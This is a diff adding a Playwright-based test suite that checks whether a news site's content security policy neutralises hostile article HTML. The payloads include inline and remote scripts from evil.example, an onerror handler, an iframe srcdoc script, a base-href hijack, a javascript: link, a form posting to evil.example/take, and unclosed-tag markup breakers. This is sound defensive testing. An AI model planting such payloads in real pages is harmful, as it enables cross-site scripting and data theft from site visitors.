@@ -1,0 +1,162 @@
+import path from 'node:path'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { type DemoApi, startDemoApi } from '../../scripts/demoApi'
+import { openBrowser, openPage } from '../support/openBrowser'
+import { type RunningSite, startSite } from '../support/startSite'
+import { tenants } from '../support/tenants'
+
+/** What a publisher's account in the wrong hands could write. Each piece tries to leave its mark on `window.ran`, or to lead away. */
+const pieces = {
+  script: '<script>window.ran = "script"</script>',
+  'script of a foreign address': '<script src="https://evil.example/a.js"></script>',
+  handler: '<img src="data:," alt="" onerror="window.ran = \'handler\'">',
+  'frame with a text of its own': '<iframe srcdoc="<script>parent.ran = \'srcdoc\'</script>"></iframe>',
+  'foreign frame': '<iframe src="https://evil.example/frame"></iframe>',
+  'foreign style sheet': '<link rel="stylesheet" href="https://evil.example/a.css">',
+  object: '<object data="https://evil.example/a.swf"></object>',
+  base: '<base href="https://evil.example/">',
+  refresh: '<meta http-equiv="refresh" content="0;url=/offers">',
+  form: '<form action="https://evil.example/take"><input name="word" value="x"><button>Send it</button></form>',
+  link: '<a href="javascript:window.ran = \'link\'">Press me</a>',
+  end: '</div></main></body></html>',
+}
+
+/** What would be left open, and swallow the page after it. */
+const openEnds = [
+  '<!-- never closed',
+  '<div><b><table><tr><td>never closed',
+  '<textarea>never closed',
+  '<style>never closed',
+  '<script>never closed',
+  '<script><!-- <script> never closed',
+  '<title>never closed',
+  '<plaintext>never closed',
+  '<select><option>never closed',
+  '<svg><desc>never closed',
+  '<a href="/x" title="never closed',
+]
+
+let api: DemoApi
+let site: RunningSite
+let browser: Browser
+
+beforeAll(async () => {
+  api = await startDemoApi({ folder: path.resolve('private/tenants'), token: 'demo' })
+  const texts = [Object.values(pieces).join('\n\n'), ...openEnds]
+  api.edit((data) => {
+    const articles = data.articles as object[]
+    texts.forEach((text, index) => {
+      const slug = `hostile-${index}`
+      articles.push({ id: slug, slug, title: slug, body: `First words.\n\n${text}\n\nLast words.\n` })
+    })
+  })
+  site = await startSite({ API_BASE: api.url, API_TOKEN: 'demo', WEBSITE_ID: 'harbour-post' })
+  browser = await openBrowser()
+})
+afterAll(async () => {
+  await browser.close()
+  await site.stop()
+  await api.close()
+})
+
+/** Counts what the policy of the page forbids, from before the first byte, by directive. */
+async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
+  await page.addInitScript(() => {
+    const seen: string[] = []
+    Object.assign(window, { seen })
+    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
+  })
+  return () => page.evaluate(() => (window as unknown as { seen: string[] }).seen)
+}
+
+const ran = (page: Page) => page.evaluate(() => (window as unknown as { ran?: string }).ran)
+
+/** Header, text and footer side by side, as on any other page. */
+async function expectWhole(page: Page): Promise<void> {
+  expect(await page.locator('main#content').count()).toBe(1)
+  expect(await page.locator('[itemprop=articleBody]').textContent()).toContain('First words.')
+  const footer = page.locator('footer').last()
+  expect(await footer.textContent()).toContain('Harbour Post')
+  expect(await footer.evaluate((element) => element.closest('[itemprop=articleBody], main'))).toBeNull()
+  const reached = await page.locator('[itemprop=articleBody]').evaluate((text) => text.querySelector('footer, nav, h1'))
+  expect(reached).toBeNull()
+}
+
+describe('a hostile text', () => {
+  it('is shown, does not run, leads nowhere, and leaves the page whole', async () => {
+    const { page, context } = await openPage(browser)
+    const left: string[] = []
+    const refused: string[] = []
+    page.on('framenavigated', (frame) => left.push(frame.url()))
+    page.on('requestfailed', (request) => refused.push(request.url()))
+    page.on('response', (response) => left.push(response.url()))
+    const violations = await watchViolations(page)
+    await page.goto(`${site.url}/article/hostile-0`, { waitUntil: 'networkidle' })
+    const seen = await violations()
+    const count = (directive: string) => seen.filter((one) => one === directive).length
+    expect({
+      scripts: count('script-src-elem'),
+      handlers: count('script-src-attr'),
+      frames: count('frame-src'),
+      styles: count('style-src-elem'),
+      objects: count('object-src'),
+      bases: count('base-uri'),
+    }).toEqual({ scripts: 2, handlers: 1, frames: 1, styles: 1, objects: 1, bases: 1 })
+    await page.getByText('Press me').click()
+    expect(await ran(page)).toBeUndefined()
+    expect(page.url()).toBe(`${site.url}/article/hostile-0`)
+    expect(left.filter((url) => url.includes('evil.example') || url.endsWith('/offers'))).toEqual([])
+    await expectWhole(page)
+    expect(await page.locator('[itemprop=articleBody]').textContent()).toContain('Last words.')
+    await page.locator('[itemprop=articleBody] form').evaluate((form: HTMLFormElement) => form.requestSubmit())
+    await expect.poll(violations).toContain('form-action')
+    await context.close()
+  })
+
+  it.each(openEnds.map((text, index) => [text, index + 1] as const))(
+    'that holds %s leaves the page whole',
+    async (_, number) => {
+      for (const javaScriptEnabled of [true, false]) {
+        const { page, context } = await openPage(browser, { javaScriptEnabled })
+        await page.goto(`${site.url}/article/hostile-${number}`)
+        await expectWhole(page)
+        await context.close()
+      }
+    },
+  )
+})
+
+describe('the content security policy', () => {
+  const unopened = { websiteId: 'harbour-post-coming-soon', theme: 'news', pages: ['/', '/agenda'] }
+  const closed = { websiteId: 'harbour-post-maintenance', theme: 'news', pages: ['/'] }
+
+  it.each([...tenants, unopened, closed])('of $websiteId hinders nothing of our own', async ({ websiteId, pages }) => {
+    const own = await startSite({ WEBSITE_ID: websiteId, DEV_PAGES: '1' })
+    const { page, context } = await openPage(browser)
+    const violations = await watchViolations(page)
+    for (const route of pages) {
+      const answer = await page.goto(own.url + route, { waitUntil: 'networkidle' })
+      expect(answer?.headers()['content-security-policy']).toContain("default-src 'none'")
+      expect([route, await violations()]).toEqual([route, []])
+    }
+    await context.close()
+    await own.stop()
+  })
+
+  it('stops a script without our mark wherever it comes from', async () => {
+    const { page, context } = await openPage(browser)
+    const violations = await watchViolations(page)
+    await page.goto(site.url)
+    await page.evaluate(() => {
+      const script = document.createElement('script')
+      script.textContent = 'window.ran = "injected"'
+      document.body.append(script)
+      document.body.setAttribute('onclick', 'window.ran = "attribute"')
+      document.body.click()
+    })
+    expect(await ran(page)).toBeUndefined()
+    expect(await violations()).toEqual(['script-src-elem', 'script-src-attr'])
+    await context.close()
+  })
+})
